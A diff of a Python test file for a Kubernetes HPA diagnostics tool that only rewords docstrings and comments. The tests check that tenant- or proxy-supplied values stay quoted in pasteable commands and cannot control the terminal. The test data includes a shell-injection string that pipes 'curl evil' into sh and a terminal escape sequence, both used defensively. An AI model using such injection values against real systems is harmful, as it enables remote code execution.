@@ -1,4 +1,4 @@
-"""What a tenant, or a server in the way, writes into objects does no harm to who looks at them."""
+"""What tenants, or a server in between, write into objects cannot harm the reader."""
 
 import asyncio
 import shlex
@@ -24,18 +24,18 @@ from tests.doctor.scene import PODS_METRIC, hpa
 from tests.doctor.test_hpa_judgements import RULES
 from tests.support.commands import kubeconfig
 
-# Kubernetes checks neither the selector of an HPA's metric, nor much of its names.
+# Kubernetes checks neither the selector of an HPA's metric, nor much of its name.
 HARM = "x'; curl evil | sh; '"
 SELECTOR = Selector((Requirement("app", "=", (HARM,)),))
 
 
 def words(command: str) -> list[str]:
-    """The words of a command, as a shell reads them."""
+    """The words of a command, as a shell parses them."""
     return shlex.split(command, comments=True)
 
 
 def test_a_command_to_paste_is_one_command() -> None:
-    """Whatever an HPA contains, it remains a word of the command."""
+    """Whatever an HPA contains, it stays one word of the command."""
     asked = Asked("External", HARM, "default", SELECTOR)
     why_not = as_text([Explained(asked, Answered(error="none", status=404))]).splitlines()[-1]
     assert HARM in words(why_not)
@@ -62,7 +62,7 @@ def test_a_command_to_paste_is_one_command() -> None:
     ],
 )
 def test_an_endpoint_names_no_pod_but_by_a_pods_name(target: Mapping[str, str]) -> None:
-    """It becomes a part of commands, and of the path by which its page is read."""
+    """The name is used in commands, and in the path of the pod's page."""
     endpoint = {"addresses": ["10.0.0.1"], "nodeName": "n", "targetRef": target}
     slices = [
         {
@@ -84,7 +84,7 @@ def test_an_endpoint_names_no_pod_but_by_a_pods_name(target: Mapping[str, str]) 
 
 @pytest.mark.parametrize("kind", ["Pods", "External"])
 def test_an_answer_does_not_control_the_terminal(kind: MetricType) -> None:
-    """Another server may answer in this one's place."""
+    """The answer may be another server's."""
     harm = "\x1b[2J\x9b"
     item = Item(harm, harm, {harm: harm}, convert({"name": harm}, type(Item("").described_object)))
     text = as_text([Explained(Asked(kind, harm, "default", SELECTOR), Answered([item]), ())])
@@ -104,7 +104,7 @@ async def test_a_proxy_in_the_way(
     answer: str,
     status: int,
 ) -> None:
-    """Its page is not the answer of a Kubernetes API, which is said without a traceback."""
+    """Its page is not a Kubernetes API's answer, which is reported without a traceback."""
 
     async def respond(_: web.Request) -> web.Response:
         return web.Response(text=answer, status=status)
